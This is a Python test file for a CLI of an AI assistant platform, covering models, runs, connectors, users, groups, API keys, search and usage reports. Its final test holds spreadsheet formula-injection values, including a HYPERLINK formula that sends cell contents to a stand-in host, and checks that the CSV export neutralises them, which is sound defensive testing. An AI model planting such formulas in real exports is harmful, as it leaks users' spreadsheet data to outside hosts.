"""The commands that list, add, change and remove things."""

import csv
import warnings
from getpass import GetPassWarning

import pytest

from tests.drivers.api_server import ApiServer, Call, about
from tests.drivers.shell import Shell

RUN = "01926b3e-7c1a-7000-8000-5f0d3c2b1a09"
LLMS = {
    "llms": [
        {"id": 1, "name": "Built in", "provider": "LLM_PROVIDER_EXTRACTIVE", "modelId": "x", "isActive": True},
        {
            "id": 2,
            "name": "Small",
            "provider": "LLM_PROVIDER_OLLAMA",
            "modelId": "qwen3",
            "isDefault": True,
            "isActive": True,
        },
    ]
}


def test_a_model_is_added_with_its_own_key(api: ApiServer, shell: Shell) -> None:
    api.on("LlmService/CreateLlm", lambda call: call.body | {"id": 3, "apiKey": "", "hasApiKey": True})
    options = ("--provider", "openai", "--model", "gpt-x", "--provider-key", "sk-1", "--default")
    assert shell.json("llms", "add", "Big", *options)["id"] == "3"
    (call,) = api.calls
    assert (call.body["apiKey"], call.body["modelId"], call.body["isDefault"]) == ("sk-1", "gpt-x", True)
    assert call.headers["Authorization"] == "Bearer secret"


def test_an_update_of_a_model_changes_only_the_given_fields(api: ApiServer, shell: Shell) -> None:
    api.on("LlmService/ListLlms", LLMS)
    api.on(about("LlmService/UpdateLlm", id=1), LLMS["llms"][0] | {"isDefault": True})
    text = shell.run("llms", "update", "built in", "--default", "--max-tokens", "0").stdout
    assert text == "Changed Built in (id 1), the default model.\n"
    assert api.changes()[0].body == {"maxTokens": 0, "isDefault": True}
    assert shell.json("llms", "update", "1", "--inactive", "--provider-key", "sk-2")["id"] == "1"
    assert api.changes()[1].body == {"isActive": False, "apiKey": "sk-2"}
    assert "Say what to change" in shell.run("llms", "update", "1", code=2).stderr


def test_the_default_model_is_marked(api: ApiServer, shell: Shell) -> None:
    api.on("LlmService/ListLlms", LLMS)
    lines = shell.run("llms", "list").stdout.splitlines()
    assert [line.split()[:3] for line in lines[1:]] == [["1", "Built", "in"], ["*", "2", "Small"]]
    assert [llm["id"] for llm in shell.json("llms", "list")["llms"]] == ["1", "2"]


def test_a_model_that_does_not_answer_is_exit_code_1(api: ApiServer, shell: Shell) -> None:
    api.on("LlmService/ListLlms", LLMS)
    api.on(about("LlmService/TestLlm", id=2), {"ok": False, "message": "Connection refused.", "latencyMs": 3})
    assert "Small does not answer: Connection refused." in shell.run("llms", "test", "small", code=1).stderr
    tested = shell.json("llms", "test", "2", code=1)
    assert (tested["ok"], tested["message"], tested["latencyMs"]) == (False, "Connection refused.", 3)
    assert api.sent("LlmService/TestLlm")[0].body == {}


def test_a_missing_item_is_reported_with_the_available_ones(api: ApiServer, shell: Shell) -> None:
    api.on("LlmService/ListLlms", LLMS)
    error = shell.run("llms", "remove", "Huge", code=1).stderr
    assert "There is no chat model 'Huge'. Known: Built in, Small." in error


def test_lists_are_read_page_by_page(api: ApiServer, shell: Shell) -> None:
    def page(call: Call) -> dict[str, object]:
        first = int(call.query.get("pageToken", "0"))
        runs = [
            {"id": RUN, "chatSessionId": number, "status": "RUN_STATUS_FAILED"} for number in range(first, first + 2)
        ]
        return {"runs": runs, "nextPageToken": str(first + 2) if first < 4 else ""}

    api.on("RunService/ListRuns", page)
    runs = shell.json("runs", "list", "--status", "failed", "--session", "7")["runs"]
    assert [run["chatSessionId"] for run in runs] == ["0", "1", "2", "3", "4", "5"]
    assert all(call.query["statuses"] == "RUN_STATUS_FAILED" for call in api.calls)
    assert all(call.query["chatSessionId"] == "7" for call in api.calls)
    assert len(shell.json("runs", "list", "--limit", "3")["runs"]) == 3


def test_runs_are_filtered(api: ApiServer, shell: Shell) -> None:
    api.on("RunService/ListRuns", {"runs": []})
    api.on("AssistantService/ListAssistants", {"assistants": [{"id": 3, "name": "Legal"}]})
    api.on(
        "LlmService/ListLlms", {"llms": [{"id": 4, "name": "Large", "provider": "LLM_PROVIDER_OPENAI", "modelId": "m"}]}
    )
    filters = ("--assistant", "legal", "--model", "large", "--user", "9", "--everyone", "--min-cost", "0.5")
    shell.run("runs", "list", "--state", "failed", *filters, "--since", "2026-01-02")
    query = api.sent("RunService/ListRuns")[-1].query
    assert query.pop("createdFrom").startswith("2026-01-0")
    assert query == {
        "statuses": "RUN_STATUS_FAILED",
        "assistantId": "3",
        "llmId": "4",
        "userId": "9",
        "everyone": "true",
        "minCost": "0.5",
        "pageSize": "50",
    }


def test_a_run_is_shown_with_steps_and_tool_calls(api: ApiServer, shell: Shell) -> None:
    call = {
        "id": "1",
        "toolName": "search_documents",
        "parameters": {"query": "leave"},
        "status": "STEP_STATUS_COMPLETED",
        "result": "[1] Leave\nThirty days.",
    }
    what = {"stepType": "STEP_TYPE_ACTION", "action": "STEP_ACTION_CALL_TOOL"}
    step = {"stepNumber": 1, **what, "status": "STEP_STATUS_COMPLETED", "toolCalls": [call]}
    api.on(about("RunService/GetRun", id=RUN), {"id": RUN, "status": "RUN_STATUS_COMPLETED", "input": "How many?"})
    api.on(about("RunService/ListSteps", id=RUN), {"steps": [step]})
    text = shell.run("runs", "show", RUN).stdout
    assert "1. call tool (action): completed" in text
    assert "search_documents(query='leave'): completed\n      [1] Leave Thirty days." in text
    shown = shell.json("runs", "show", RUN)
    assert (shown["id"], shown["steps"][0]["toolCalls"][0]["toolName"]) == (RUN, "search_documents")
    assert shell.json("runs", "watch", RUN) == shown


def test_all_steps_of_a_run_are_read(api: ApiServer, shell: Shell) -> None:
    pages = {"": {"steps": [{"stepNumber": 1}], "nextPageToken": "two"}, "two": {"steps": [{"stepNumber": 2}]}}
    api.on(about("RunService/GetRun", id=RUN), {"id": RUN, "status": "RUN_STATUS_COMPLETED"})
    api.on(about("RunService/ListSteps", id=RUN), lambda call: pages[call.query.get("pageToken", "")])
    assert [step["stepNumber"] for step in shell.json("runs", "show", RUN)["steps"]] == [1, 2]


@pytest.mark.parametrize("action", ["pause", "resume", "cancel"])
def test_a_run_is_controlled(api: ApiServer, shell: Shell, action: str) -> None:
    api.on(about(f"RunService/{action.capitalize()}Run", id=RUN), {"id": RUN, "status": "RUN_STATUS_RUNNING"})
    assert f"Asked to {action}" in shell.run("runs", action, RUN).stdout


RULES = {"name": "Rules", "type": "CONNECTOR_TYPE_FILE", "scope": "SCOPE_ORG"}


@pytest.mark.parametrize(
    "command",
    [
        ("connectors", "show", "Rules"),
        ("connectors", "remove", "Rules", "--yes"),
        ("search", "x", "--connector", "Rules"),
        ("ingest", __file__, "--connector", "Rules"),
    ],
)
def test_a_name_of_several_connectors_is_refused_with_their_ids(
    api: ApiServer, shell: Shell, command: tuple[str, ...]
) -> None:
    api.on(
        "ConnectorService/ListConnectors",
        {"connectors": [RULES | {"id": 4, "userId": 9}, RULES | {"id": 5, "userId": 1}]},
    )
    error = shell.run(*command, code=1).stderr
    assert "Several connectors have the name 'Rules'" in error
    assert "4 (visible to everyone), 5 (visible to everyone)" in error
    assert not api.changes()


def test_a_connector_without_a_unique_name_is_found_only_by_id(api: ApiServer, shell: Shell) -> None:
    api.on("ConnectorService/ListConnectors", {"connectors": []})
    api.on(about("ConnectorService/GetConnector", id=7), RULES | {"id": 7, "userId": 9})
    assert shell.json("connectors", "show", "7")["id"] == "7"
    assert "is named by its id" in shell.run("connectors", "show", "Rules", code=1).stderr
    assert [call.query["name"] for call in api.sent("ConnectorService/ListConnectors")] == ["7", "Rules"]


def test_a_connector_is_removed_when_the_person_agrees(api: ApiServer, shell: Shell) -> None:
    connector = {"id": 4, "name": "Rules", "type": "CONNECTOR_TYPE_FILE", "userId": 1}
    api.on("ConnectorService/ListConnectors", {"connectors": [connector]})
    api.on(about("ConnectorService/DeleteConnector", id=4), {})
    shell.run("connectors", "remove", "Rules", code=1)
    assert not api.changes()
    assert shell.json("connectors", "remove", "Rules", "--yes") == {"id": "4", "name": "Rules"}


def test_an_account_is_added_with_its_sign_in_link(api: ApiServer, shell: Shell) -> None:
    api.on("UserService/CreateUser", lambda call: call.body | {"id": 8})
    api.on("AuthService/CreateSignInLink", {"path": "/auth/link?token=t", "expiresAt": "2030-01-01T00:00:00Z"})
    added = shell.json("users", "add", "ann", "ann@example.org", "--role", "admin", "--group", "sales")
    assert added["signInLink"] == f"{api.url}/auth/link?token=t"
    assert (added["roles"], added["groups"], added["isActive"]) == (["ROLE_ADMIN"], ["sales"], True)
    assert api.sent("AuthService/CreateSignInLink")[0].body == {"userId": 8}


def test_people_join_and_leave_a_group(api: ApiServer, shell: Shell) -> None:
    members = [
        {"userId": 8, "userName": "ann", "isActive": True, "isAdmin": True, "sources": ["manual", "scim:4"]},
        {"userId": 9, "userName": "bob", "isActive": True, "sources": ["manual"]},
    ]
    api.on(about("GroupService/ListGroupMembers", id=2), {"members": members})
    api.on("GroupService/ListGroups", {"groups": [{"id": 2, "name": "sales", "memberCount": 1}]})
    api.on(about("GroupService/(Add|Remove)GroupMembers", id=2), {"id": 2, "name": "sales", "memberCount": 3})
    assert shell.run("groups", "join", "sales", "ann", "b@x.org").stdout == "sales has 3 members.\n"
    shell.run("groups", "leave", "Sales", "bob")
    assert [call.body for call in api.changes()] == [{"userNames": ["ann", "b@x.org"]}, {"userIds": [9]}]
    assert "There is no member 'eve'" in shell.run("groups", "leave", "sales", "eve", code=1).stderr
    shown = shell.run("groups", "show", "sales").stdout.splitlines()
    assert [line.split() for line in shown[-2:]] == [["8", "ann", "yes", "manual,", "scim:4"], ["9", "bob", "manual"]]


def test_members_become_admins_of_their_group(api: ApiServer, shell: Shell) -> None:
    api.on(about("GroupService/ListGroupMembers", id=2), {"members": [{"userId": 8, "userName": "ann"}]})
    api.on("GroupService/ListGroups", {"groups": [{"id": 2, "name": "sales"}]})
    api.on(about("GroupService/SetGroupAdmin", id=2), lambda call: call.body | {"userName": "ann"})
    assert shell.run("groups", "promote", "sales", "ann").stdout == "ann is an admin of sales.\n"
    assert shell.run("groups", "demote", "sales", "ann").stdout == "ann is a plain member of sales.\n"
    assert [call.body for call in api.changes()] == [{"userId": 8, "isAdmin": True}, {"userId": 8, "isAdmin": False}]


def test_only_the_named_fields_of_an_account_change(api: ApiServer, shell: Shell) -> None:
    api.on(
        "UserService/ListUsers", {"users": [{"id": 8, "userName": "ann", "email": "ann@example.org", "isActive": True}]}
    )
    api.on(about("UserService/UpdateUser", id=8), {"id": 8, "userName": "ann", "email": "ann@example.org"})
    shell.run("users", "update", "ann", "--inactive", "--no-groups")
    assert api.changes()[0].body == {"groups": [], "isActive": False}
    shell.run("users", "update", "ann", code=2)


def test_a_password_is_asked_for_twice_and_never_shown(api: ApiServer, shell: Shell) -> None:
    api.on("UserService/GetCurrentUser", {"id": 1, "userName": "owner", "email": "owner@localhost"})
    api.on("AuthService/SetPassword", {})
    result = shell.run("users", "password", typed="the old one\nlong enough 123\nlong enough 123\n")
    assert api.changes()[0].body == {
        "password": "long enough 123",
        "currentPassword": "the old one",
        "revokeApiKeys": False,
    }
    assert "long enough" not in result.stdout + result.stderr
    assert "12 characters" in shell.run("users", "password", typed="\nshort\nshort\n", code=1).stderr


def test_a_password_is_not_asked_for_where_it_would_be_shown(
    api: ApiServer, shell: Shell, monkeypatch: pytest.MonkeyPatch
) -> None:
    api.on("UserService/GetCurrentUser", {"id": 1, "userName": "owner", "email": "owner@localhost"})
    monkeypatch.setattr("typer.prompt", lambda *_, **__: warnings.warn("shown", GetPassWarning, stacklevel=1))
    assert "in a terminal, so run this command in one." in shell.run("users", "password", code=1).stderr
    assert not api.changes()


def test_a_keys_secret_is_alone_on_standard_output(api: ApiServer, shell: Shell) -> None:
    api.on("ApiKeyService/CreateApiKey", {"apiKey": {"id": 1, "name": "ci", "prefix": "em_a"}, "secret": "em_abc"})
    assert shell.run("keys", "add", "ci", "--days", "30").stdout == "em_abc\n"
    assert api.calls[0].body["expiresAt"].endswith("Z")


def test_a_rotated_keys_secret_is_alone_on_standard_output(api: ApiServer, shell: Shell) -> None:
    key = {"id": 7, "name": "ci", "prefix": "em_a"}
    api.on("ApiKeyService/ListApiKeys", {"apiKeys": [key]})
    rotated = key | {"previousExpiresAt": "2030-01-01T00:00:00Z"}
    api.on("ApiKeyService/RotateApiKey", {"apiKey": rotated, "secret": "em_abc"})
    result = shell.run("keys", "rotate", "ci")
    assert result.stdout == "em_abc\n"
    assert "works until 2030-01-01" in result.stderr
    (call,) = api.changes()
    assert (call.fields["id"], call.body["overlapSeconds"]) == ("7", 86400)
    api.on("ApiKeyService/RotateApiKey", {"apiKey": key, "secret": "em_abd"})
    assert "within a minute" in shell.run("keys", "rotate", "7", "--overlap-hours", "0").stderr
    api.on("ApiKeyService/ListApiKeys", {"apiKeys": [rotated]})
    assert "until 2030-01-01 00:00, last used never" in shell.run("keys", "list").stdout


def test_a_key_keeps_the_limits_that_are_not_named(api: ApiServer, shell: Shell) -> None:
    month = {"period": "QUOTA_PERIOD_MONTH", "maxCost": 2.5, "cost": 0.5, "renewsAt": "2030-02-01T00:00:00Z"}
    day = {"period": "QUOTA_PERIOD_DAY", "maxTokens": "100", "renewsAt": "2030-01-02T00:00:00Z"}
    key = {"id": 7, "name": "ci", "prefix": "em_a", "quotas": [day, month], "maxConcurrentRuns": 3}
    api.on("ApiKeyService/ListApiKeys", {"apiKeys": [key]})
    shown = shell.run("keys", "list").stdout
    assert "0 of 100 tokens until 2030-01-02 00:00; $0.50 of $2.50 until 2030-02-01 00:00; 3 questions" in shown
    api.on("ApiKeyService/SetApiKeyQuotas", {"id": 7, "name": "ci"})
    options = ("--each", "day", "--tokens", "0", "--questions", "0", "--streams", "2")
    assert shell.run("keys", "limit", "ci", *options).stdout == "ci: no limit.\n"
    (call,) = api.changes()
    assert call.body == {
        "quotas": [{"period": "QUOTA_PERIOD_MONTH", "maxCost": 2.5}],
        "maxConcurrentRuns": 3,
        "maxConcurrentStreams": 2,
    }
    assert "--requests-per-minute" in shell.run("keys", "limit", "ci", code=2).stderr


def test_a_key_has_the_scopes_that_are_named(api: ApiServer, shell: Shell) -> None:
    api.on("ApiKeyService/CreateApiKey", {"apiKey": {"id": 1, "name": "ci", "prefix": "em_a"}, "secret": "em_abc"})
    for options, expected in (
        ((), []),
        (("--scope", "read", "--scope", "ask", "--scope", "read"), ["API_KEY_SCOPE_READ", "API_KEY_SCOPE_ASK"]),
        (("--administer",), ["API_KEY_SCOPE_ADMINISTER"]),
    ):
        shell.run("keys", "add", "ci", *options)
        assert api.calls[-1].body.get("scopes") == expected
    assert "'everything'" in shell.run("keys", "add", "ci", "--scope", "everything", code=2).stderr


def test_search_prints_passages_best_first(api: ApiServer, shell: Shell) -> None:
    hit = {
        "documentId": "5",
        "title": "Leave",
        "chunkId": "c",
        "text": "**Thirty**\ndays.",
        "snippet": "Thirty days.",
        "score": 0.75,
        "heading": ["Days"],
        "fileName": "leave.md",
        "copyIds": ["6"],
    }
    weak = hit | {"isWeak": True, "copyIds": [], "fileName": "Leave"}
    api.on("SearchService/Search", {"hits": [hit, weak]})
    result = shell.run("search", "leave", "--mode", "lexical", "--limit", "3")
    assert result.stdout == "1. Leave [leave.md] > Days (score 0.750, document 5, also 6)\n   Thirty days.\n"
    assert "1 passage has little in common with the query: --all shows them, too." in result.stderr
    assert "\n2. Leave > Days (score 0.750, document 5)\n" in shell.run("search", "leave", "--all").stdout
    api.on("NotebookService/ListNotebooks", {"notebooks": [{"id": "9", "title": "Cars"}]})
    shell.run("search", "leave", "--language", "de", "--notebook", "Cars")
    sent = api.sent("SearchService/Search")[-1].body
    assert (sent["languages"], sent["notebookId"]) == (["de"], "9")
    assert (api.calls[0].body["mode"], api.calls[0].body["limit"]) == ("SEARCH_MODE_LEXICAL", 3)
    assert shell.json("search", "leave") == {
        "hits": [
            {
                "documentId": "5",
                "title": "Leave",
                "fileName": each["fileName"],
                "chunkId": "c",
                "text": "**Thirty**\ndays.",
                "snippet": "Thirty days.",
                "score": 0.75,
                "isWeak": each is weak,
                "copyIds": each["copyIds"],
            }
            for each in (hit, weak)
        ],
        "missing": "",
        "unranked": "",
    }
    api.on("SearchService/Search", {"missing": "The server does not answer."})
    assert "The server does not answer." in shell.run("search", "leave").stderr


def test_an_unknown_cost_is_not_shown_as_nothing(api: ApiServer, shell: Shell) -> None:
    rows = [{"day": "2026-01-02", "promptTokens": "5"}, {"day": "2026-01-01", "promptTokens": "5", "cost": 0.5}, {}]
    api.on("UsageService/GetUsage", {"usage": rows})
    costs = [line.split()[-1] for line in shell.run("usage").stdout.splitlines()[1:]]
    assert costs == ["unknown", "0.5000", "0.0000"]


def test_usage_by_day_and_model_names_both(api: ApiServer, shell: Shell) -> None:
    rows = [{"day": "2026-01-01", "id": 3, "name": "Large", "questions": "2"}, {"day": "2026-01-01", "questions": "1"}]
    api.on("UsageService/GetUsage", {"usage": rows})
    lines = shell.run("usage", "--by", "day-model").stdout.splitlines()
    assert lines[0].startswith("DAY AND MODEL")
    assert [line.split()[:3] for line in lines[1:]] == [["2026-01-01", "Large", "2"], ["2026-01-01", "none", "1"]]
    assert api.calls[-1].query["groupBy"] == "USAGE_GROUPING_DAY_LLM"


def test_usage_by_kind_of_call(api: ApiServer, shell: Shell) -> None:
    rows = [{"kind": "USAGE_KIND_PLAIN_MODEL", "promptTokens": "5", "cost": 0.5}]
    api.on("UsageService/GetUsage", {"usage": rows})
    lines = shell.run("usage", "--by", "kind", "--kind", "plain-model").stdout.splitlines()
    assert lines[1].split()[0] == "plain-model"
    assert api.calls[-1].query["kind"] == "USAGE_KIND_PLAIN_MODEL"
    (line,) = shell.run("usage", "--by", "kind", "--csv").stdout.splitlines()[1:]
    assert line == ",0,,plain-model,0,0,0,5,0,0.5"


def test_usage_as_csv_holds_no_formulas(api: ApiServer, shell: Shell) -> None:
    names = ['=HYPERLINK("http://e.example/?"&A1)', "+1+1", "-2", "@SUM(A1)", "Large"]
    api.on("UsageService/GetUsage", {"usage": [{"name": name, "cost": 0.5} for name in names]})
    rows = list(csv.DictReader(shell.run("usage", "--by", "assistant", "--csv").stdout.splitlines()))
    assert [row["name"] for row in rows] == [*(f"'{name}" for name in names[:-1]), "Large"]
    assert {row["cost"] for row in rows} == {"0.5"}
